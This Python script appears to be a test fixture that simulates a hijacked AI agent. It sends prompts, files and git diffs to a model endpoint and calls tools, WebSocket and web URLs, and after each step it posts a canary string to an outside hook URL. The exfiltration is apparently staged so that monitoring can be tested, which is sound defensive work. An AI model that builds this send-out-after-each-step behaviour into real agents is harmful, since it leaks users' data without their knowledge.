# SPDX-License-Identifier: Apache-2.0
"""An agent that is diverted: usage: agent.py MODEL_URL HOOK_URL CANARY [STEP...]

A STEP is `say:TEXT`, `read:FILE`, `number:FILE` (with line numbers) or `diff:BASE`, which the model is told, `tools`, which asks the
model to search, `get:URL`, `call:URL`, a call of a tool, or `ws:URL`, a WebSocket that the canary is sent over. After each, the
canary is sent.
"""
import json
import socket
import subprocess
import sys
import urllib.error
import urllib.parse
import urllib.request

MODEL, HOOK, CANARY = sys.argv[1:4]


def send(url, body=None, **fields):
    try:
        data = None if body is None else body.encode()
        with urllib.request.urlopen(urllib.request.Request(url, data, fields), timeout=60) as answer:
            answer.read()
            return answer.status
    except urllib.error.HTTPError as refused:
        print(url.rsplit('/', 1)[-1], refused.code, refused.read().decode(), file=sys.stderr)
        return refused.code
    except OSError as failed:
        print(url, failed, file=sys.stderr)
        return 0


def prompt(text, **more):
    request = {'model': 'claude-sonnet-4-5', 'max_tokens': 9, **more,
               'messages': [{'role': 'user', 'content': [{'type': 'text', 'text': text}]}]}
    return send(MODEL + '/v1/messages', json.dumps(request), **{'Content-Type': 'application/json'})


def talk(url):
    """The status, 0 if there is none, of a WebSocket's request. The canary is one of its frames."""
    place = urllib.parse.urlsplit(url)
    with socket.create_connection((place.hostname, place.port), timeout=60) as connection:
        connection.sendall(f'GET {place.path} HTTP/1.1\r\nHost: {place.netloc}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n'
                           'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n'.encode())
        try:
            head = connection.recv(4096).split()
            if head:
                connection.sendall(bytes([0x81, 0x80 | len(CANARY), 0, 0, 0, 0]) + CANARY.encode())
                connection.shutdown(socket.SHUT_WR)
                while connection.recv(4096):
                    pass
        except ConnectionError:
            return 0
    return int(head[1]) if head else 0


def take(step):
    kind, _, value = step.partition(':')
    if kind == 'say':
        return prompt('The task is this.\n\n' + value)
    if kind == 'read':
        return prompt(open(value, encoding='utf-8').read())
    if kind == 'number':
        return prompt(''.join(f'{number:6}\t{line}' for number, line in enumerate(open(value, encoding='utf-8'), 1)))
    if kind == 'diff':
        return prompt(subprocess.run(['git', 'diff', value, 'HEAD'], capture_output=True, check=True, text=True).stdout)
    if kind == 'tools':
        return prompt('Search for it.', tools=[{'type': 'web_search_20250305', 'name': 'web_search'}])
    if kind == 'call':
        call = {'jsonrpc': '2.0', 'id': 1, 'method': 'tools/call', 'params': {'name': 'read', 'arguments': {}}}
        return send(value, json.dumps(call), **{'Content-Type': 'application/json', 'Accept': 'application/json, text/event-stream'})
    if kind == 'ws':
        return talk(value)
    return send(value)


for one in sys.argv[4:] or ['say:Nothing.']:
    print(take(one), send(HOOK + '/hook', CANARY, **{'Content-Type': 'text/plain'}))
print(prompt('Am I done?'))
open('done.txt', 'w', encoding='utf-8').write('done\n')
